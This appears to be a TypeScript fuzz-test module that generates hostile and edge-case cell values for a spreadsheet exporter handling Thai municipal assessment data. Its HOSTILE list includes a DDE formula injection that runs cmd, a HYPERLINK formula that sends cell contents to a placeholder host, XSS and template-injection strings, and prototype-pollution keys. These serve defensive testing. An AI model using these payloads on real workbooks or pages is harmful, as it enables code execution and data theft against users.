/** Texts that somebody may type, paste or send to do harm, and those that merely break programs. */
import type { RawValue } from '../../src/plan/grid';
import type { Chance } from './random';

const LONGEST_CELL = 32_767;
const WORDS = [
  'มาตรการ',
  'คะแนน',
  'IIT',
  'EIT',
  'OIT',
  'รวม',
  'ปีงบประมาณ',
  'พ.ศ.',
  '๒๕๖๘',
  '2568',
  'เทศบาลตำบล',
  'ผลลัพธ์',
  'O27',
  'ข้อ',
  '-',
  '๑.',
  ' ',
  '\n',
  '%',
  ',',
];

const HOSTILE: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?"&A1,"คลิก")',
  '=1+1',
  '+SUM(1,1)',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '=IMPORTXML("http://example.invalid")',
  '＝1+1',
  '&"Arial,Bold"&72ร่าง',
  '&P&N&D&T&F&Z&A&G',
  '&&&',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;b&gt;&amp;#39;&nbsp;',
  '<!DOCTYPE x [<!ENTITY a "b">]>&a;',
  ']]>',
  '\u202Eตัวอักษรกลับด้าน\u202C',
  '\u200F\u200E\u2066คะแนน\u2069',
  '\uD800',
  '\uDC00\uD800',
  'ก\uD83D',
  '\u0000\u0001\u0008\u000B\u001F',
  '\uFFFE\uFFFF',
  '_x000D_',
  '\u200B\u200C\u200D\u2060\uFEFF',
  '\u0E4D\u0E32',
  'ก\u0E49\u0E49\u0E49\u0E49\u0E49',
  '#REF!',
  '#N/A',
  'TRUE',
  '1E309',
  '-0',
  'NaN',
  'Infinity',
  '__proto__',
  'constructor',
  'toString',
  "O'Brien'!A1",
  '[book.xlsx]Sheet1!A1',
  '${process.exit(1)}',
  '{sheet}',
  '{{constructor}}',
  '$&$1$`',
  '%s%n%x',
  '\\',
  '"',
];

const NUMBERS: readonly RawValue[] = [
  0,
  -0,
  -1,
  100,
  100.0001,
  89.73,
  0.8973,
  84.995,
  1e-300,
  1e300,
  1e21,
  -1e21,
  45_567,
  2_958_466,
  Number.MAX_SAFE_INTEGER + 2,
  0.1 + 0.2,
];

export function hostileText(chance: Chance): string {
  const kind = chance.below(12);
  if (kind === 0) return chance.one(['ก', '=', 'A ', '๑', 'ไม่']).repeat(LONGEST_CELL).slice(0, LONGEST_CELL);
  if (kind === 1) return 'บรรทัด\n'.repeat(300);
  if (kind === 2) return `${chance.one(HOSTILE)}${chance.one(WORDS)}${chance.one(HOSTILE)}`;
  if (kind < 5) return Array.from({ length: chance.between(1, 12) }, () => chance.one(WORDS)).join('');
  if (kind === 5) return Array.from({ length: chance.between(1, 40) }, () => String.fromCharCode(chance.below(0x10000))).join('');
  return chance.one(HOSTILE);
}

export function hostileValue(chance: Chance): RawValue {
  const kind = chance.below(10);
  if (kind < 2) return chance.one(NUMBERS);
  if (kind === 2) return chance.chance(0.5);
  if (kind === 3) return '';
  return hostileText(chance);
}

/** A short one, where a fuzzed workbook has many cells. */
export function shortValue(chance: Chance): RawValue {
  const value = hostileValue(chance);
  return typeof value === 'string' && value.length > 400 && !chance.chance(0.02) ? value.slice(0, 60) : value;
}
